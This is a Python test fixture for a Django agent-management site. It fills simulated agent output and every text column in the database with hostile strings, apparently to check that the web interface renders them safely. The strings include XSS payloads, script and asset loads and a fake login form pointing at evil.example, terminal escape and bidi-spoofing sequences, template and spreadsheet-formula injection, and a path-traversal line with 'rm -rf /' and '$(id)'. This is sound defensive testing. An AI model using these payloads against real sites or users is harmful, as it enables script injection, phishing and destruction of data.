"""Texts that attack the page they are shown on, and a site that is full of them."""

import json
from base64 import b64encode
from collections.abc import Iterator
from typing import Any

from django.apps import apps
from django.contrib.admin.models import LogEntry
from django.contrib.auth.models import Group, User
from django.core.exceptions import ValidationError
from django.db.models import CharField, Field, JSONField, Model, TextField

from agents.models import Agent, Container
from agents.runtimes.streamjson import messages
from agents.runtimes.types import Line, Parsed
from tests.test_prose import ATTACKS as PROSE

SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload='window.pwned=1'><script>window.pwned=1</script></svg>"
ELSEWHERE = "http://evil.example"
ATTACKS = (
    "<script>window.pwned=1</script>",
    "</script><script src=//evil.example/x.js></script>",
    "</pre></textarea></title></style><img src=x onerror=window.pwned=1>",
    "<svg/onload=window.pwned=1><iframe srcdoc='<script>parent.pwned=1</script>'>",
    "\"'><img src=http://evil.example/a.png onerror=window.pwned=1>",
    "' autofocus onfocus='window.pwned=1' x='",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'><base href=http://evil.example/>",
    "<link rel=stylesheet href=http://evil.example/a.css><style>@import 'http://evil.example/b.css'</style>",
    "<form action=http://evil.example/><button>Log in</button></form><object data=javascript:pwned=1>",
    "[a](javascript:window.pwned=1) [b](data:text/html,<script>opener.pwned=1</script>) <javascript:pwned=1>",
    "![a](http://evil.example/b.png) ![x](data:image/svg+xml,<svg/onload=pwned=1>) [x]: javascript:pwned=1",
    "[![a](http://evil.example/c.png)](javascript:window.pwned=1) <http://evil.example/'onclick='pwned=1>",
    "```html\n<script>window.pwned=1</script>\n```\n~~~\n````\n<b onclick=pwned=1>",
    "\x1b]8;;javascript:window.pwned=1\x07link\x1b]8;;\x07 \x1b]0;owned\x07\x1b[31mred\x1b[2J\x9b31m",
    "user\u202etxt.exe \u2066isolated\u2069 \u200fmark",
    "one\r\n\r\nevent: facts\ndata: <div data-part=state><img src=x onerror=pwned=1></div>\rid: 999999\r\r",
    "a\u2028b\u2029c\x85d\x00e\x0bf\x0cg\x7f",
    "2026-01-01 00:00:00 INFO admin logged in \u0000 ---- END ----",
    "{{ 7|add:7 }}{% now 'Y' %}{# x #} ${7*7} %(secret)s {0.__class__}",
    "=HYPERLINK(\"http://evil.example\") +1 @SUM(1) -2+3|cmd' /C calc'!A0",
    "../../../etc/passwd\\..\\file\x00.txt; rm -rf / #$(id)`id`",
    "x" * 5000,
)  # fmt: skip
# A name is short: what fits of the worst.
TAME = "\"'></a><img src=x onerror=pwned=1>"
SHORT = f"{TAME}\u202e\x1b[31m"
# Columns that are no text to show: keys, addresses, and what somebody must log in with.
KEPT = {
    "Agent.name", "Session.runtime", "Run.lease_owner", "SavedList.page", "User.password", "Schedule.cron",
    "Schedule.time_zone", "Schedule.blackouts",
}  # fmt: skip
# Columns that herdweb, the engine or an administrator alone writes: no control characters get there.
OURS = {
    "Agent.paused_by", "Audit.path", "Beat.host", "Container.engine_id", "Container.image",
    "Container.image_digest", "Container.name", "Drain.by", "Drain.name", "Fire.source", "Group.name",
    "LogEntry.change_message", "LogEntry.object_id", "LogEntry.object_repr", "Run.config", "Run.credential",
    "Run.held_by", "Run.host", "Run.stop_by", "SavedList.query", "Schedule.paused_by", "Schedule.saved_by",
    "Session.home", "Session.working_directory", "Site.paused_by", "User.email", "User.first_name",
    "User.last_name",
}  # fmt: skip

# Columns that are unique together with another one.
NAMES = {"Run.key", "Schedule.name"}


def lines(attack: str) -> Iterator[dict[str, Any] | str]:
    """An attack wherever an agent can write."""
    yield attack.replace("\x00", "")
    yield {"type": "system", "subtype": attack, "text": attack, attack: attack}
    inputs = {
        "Bash": {"command": attack, "description": attack},
        "Edit": {"file_path": attack, "old_string": attack, "new_string": attack * 2},
        "Write": {"file_path": attack, "content": attack},
        "TodoWrite": {"todos": [{"content": attack, "status": attack}, attack]},
        attack: {attack: [attack, {attack: attack}], "url": attack},
    }
    tools = [
        {"type": "tool_use", "id": f"{name}{attack}", "name": name, "input": given}
        for name, given in inputs.items()
    ]
    told = [{"type": "text", "text": attack}, {"type": "thinking", "thinking": attack}]
    yield {"type": "assistant", "parent_tool_use_id": attack, "message": {"content": [*told, *tools]}}
    picture = {"type": "base64", "media_type": "image/png", "data": b64encode(SVG.encode()).decode()}
    content = [
        {"type": "text", "text": attack},
        {"type": "image", "source": picture},
        {"type": "image", "source": {**picture, "media_type": "image/svg+xml"}},
    ]
    result = {"type": "tool_result", "tool_use_id": f"Bash{attack}", "content": content, "is_error": True}
    yield {"type": "user", "message": {"content": [result]}}
    yield {"type": "error", "error": {"message": attack}}
    yield {"type": "result", "subtype": attack, "is_error": True, "result": attack, "errors": [attack]}


def output(attacks: tuple[str, ...] = ATTACKS) -> str:
    """What an agent prints that attacks in every way."""
    said = [line for attack in (*attacks, *PROSE) for line in lines(attack)]
    deep = '{"type": "x", "a": ' + "[" * 100_000
    printed = [line if isinstance(line, str) else json.dumps(line) for line in said]
    return "\n".join([*printed, deep, ATTACKS[2] * 2000])


def reports(text: str) -> list[Parsed]:
    """The lines of an output as a worker stores them."""
    return [
        Parsed(Line("stdout", line.encode()), 0, tuple(messages(line))) for line in text.splitlines() if line
    ]


# Every text of every row.


def poison() -> None:
    """Put attacks into every column that holds text."""
    models: list[type[Model]] = [*apps.get_app_config("agents").get_models(), User, Group, LogEntry]
    for model in models:
        for row in model._default_manager.all():
            poison_row(row)
    Container.objects.update(labels={SHORT: SHORT, "a": [SHORT]})


def poison_row(row: Model) -> None:
    changes: dict[str, Any] = {}
    for field in row._meta.concrete_fields:
        if not (field.choices or field.primary_key or named(field) in KEPT):
            changes |= poisoned(row, field)
    type(row)._default_manager.filter(pk=row.pk).update(**changes)


def named(field: "Field[Any, Any]") -> str:
    return f"{field.model._meta.object_name}.{field.name}"


def poisoned(row: Model, field: "Field[Any, Any]") -> dict[str, Any]:
    """The column with an attack in it; nothing when it holds no text."""
    is_admin = isinstance(row, User) and row.username == "admin"
    short = TAME if named(field) in OURS or not accepts(field, SHORT) else SHORT
    if isinstance(field, JSONField):
        return {field.name: leaves(getattr(row, field.name), short)}
    if type(field) not in (CharField, TextField) or is_admin:
        return {}
    text = short if field.max_length else "\n".join(ATTACKS).replace("\x00", "")
    end = f"{row.pk}" if field.unique or named(field) in NAMES else ""
    return {field.name: text[: (field.max_length or len(text)) - len(end)] + end}


def accepts(field: "Field[Any, Any]", text: str) -> bool:
    """Whether a form would take this text."""
    try:
        field.run_validators(text)
    except (ValidationError, AttributeError, TypeError):
        return False
    return True


def leaves(value: Any, text: str) -> Any:
    """JSON with attacks for texts, but in what names a thing of ours."""
    if isinstance(value, dict):
        kept = ("runtime", "permission_mode", "type", "id", "tool_use_id")
        return {key: item if key in kept else leaves(item, text) for key, item in value.items()}
    if isinstance(value, list):
        return [leaves(item, text) for item in value]
    return text if isinstance(value, str) else value


def hostile_agent(agent: Agent) -> None:
    """Lists and maps, which are empty where nobody filled them in."""
    attacks = [attack.replace("\x00", "") for attack in ATTACKS[:12]]
    Agent.objects.filter(pk=agent.pk).update(
        command=attacks, allowed_tools=attacks, denied_tools=attacks, mcp_servers={SHORT: {SHORT: attacks}}
    )
